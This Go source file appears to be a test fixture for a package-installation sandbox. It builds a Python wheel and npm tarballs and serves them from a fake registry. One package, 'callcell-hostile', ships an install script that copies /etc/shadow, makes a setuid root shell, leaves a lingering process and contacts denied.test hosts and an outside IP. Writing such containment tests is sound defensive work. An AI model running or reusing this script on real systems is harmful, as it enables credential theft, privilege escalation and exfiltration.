package world

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
)

// Package is the one package of both indexes. Its module callcell_tiny has
// answer, which is 42.
const Package = "callcell-tiny"

// A member is one file of an archive.
type member struct{ name, text string }

// wheel is the package for Python.
func wheel() ([]byte, error) {
	info := "callcell_tiny-1.0.dist-info/"
	members := []member{
		{"callcell_tiny.py", "answer = 42\n"},
		{info + "METADATA", "Metadata-Version: 2.1\nName: " + Package + "\nVersion: 1.0\n"},
		{info + "WHEEL", "Wheel-Version: 1.0\nGenerator: world\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
	}
	var record strings.Builder
	for _, m := range members {
		sum := sha256.Sum256([]byte(m.text))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", m.name, base64.RawURLEncoding.EncodeToString(sum[:]), len(m.text))
	}
	members = append(members, member{info + "RECORD", record.String() + info + "RECORD,,\n"})
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, m := range members {
		f, err := z.Create(m.name)
		if err != nil {
			return nil, err
		}
		if _, err := io.WriteString(f, m.text); err != nil {
			return nil, err
		}
	}
	err := z.Close()
	return out.Bytes(), err
}

// Marker is in the name of every file that Hostile tries to leave, and in the
// arguments of the process that it leaves.
const Marker = "callcell-marker"

// Hostile is a package for JavaScript whose install script tries to leave its
// place, to phone home, and to stay.
const Hostile = "callcell-hostile"

const hostileScript = `#!/bin/sh
for dir in / /root /etc /usr /usr/local/bin /home /var/tmp /opt /opt/callcell /dev /run /proc /sys; do
  echo x > $dir/` + Marker + ` 2>/dev/null
done
cat /etc/shadow > stolen 2>/dev/null
ln -s /etc/shadow shadow
ln -s / root
mkfifo pipe
cp /bin/sh rootsh && chmod 6755 rootsh
( setsid sh -c 'sleep 1000; : ` + Marker + `' >/dev/null 2>&1 & )
node -e "require('net').connect(443, '93.184.216.12').on('error', () => {})" &
node -e "require('http').get('http://denied.test/` + Marker + `').on('error', () => {})" &
node -e "require('dns').lookup('` + Marker + `.denied.test', () => {})" &
sleep 1
exit 0
`

// tarball is a package for JavaScript.
func tarball(name string) ([]byte, error) {
	members := []member{
		{"package/package.json", `{"name": "` + name + `", "version": "1.0.0", "main": "index.js"}` + "\n"},
		{"package/index.js", "exports.answer = 42\n"},
	}
	if name == Hostile {
		members[0].text = `{"name": "` + name + `", "version": "1.0.0", "main": "index.js", "scripts": {"install": "sh install.sh"}}` + "\n"
		members = append(members, member{"package/install.sh", hostileScript})
	}
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	t := tar.NewWriter(z)
	for _, m := range members {
		if err := t.WriteHeader(&tar.Header{Name: m.name, Mode: 0o644, Size: int64(len(m.text))}); err != nil {
			return nil, err
		}
		if _, err := io.WriteString(t, m.text); err != nil {
			return nil, err
		}
	}
	err := errors.Join(t.Close(), z.Close())
	return out.Bytes(), err
}

// registry is a registry of JavaScript packages.
func registry() http.Handler {
	m := http.NewServeMux()
	for _, name := range []string{Package, Hostile} {
		if err := addPackage(m, name); err != nil {
			return missing(err)
		}
	}
	return m
}

func addPackage(m *http.ServeMux, name string) error {
	data, err := tarball(name)
	if err != nil {
		return err
	}
	sum := sha512.Sum512(data)
	m.HandleFunc("/npm/"+name, func(w http.ResponseWriter, r *http.Request) {
		version := map[string]any{
			"name": name, "version": "1.0.0", "main": "index.js", "hasInstallScript": name == Hostile,
			"dist": map[string]any{
				"tarball":   "https://" + r.Host + "/npm/" + name + "/-/" + name + "-1.0.0.tgz",
				"integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:]),
			},
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{
			"name": name, "dist-tags": map[string]string{"latest": "1.0.0"}, "versions": map[string]any{"1.0.0": version},
		})
	})
	m.HandleFunc("/npm/"+name+"/-/", func(w http.ResponseWriter, _ *http.Request) { w.Write(data) })
	return nil
}
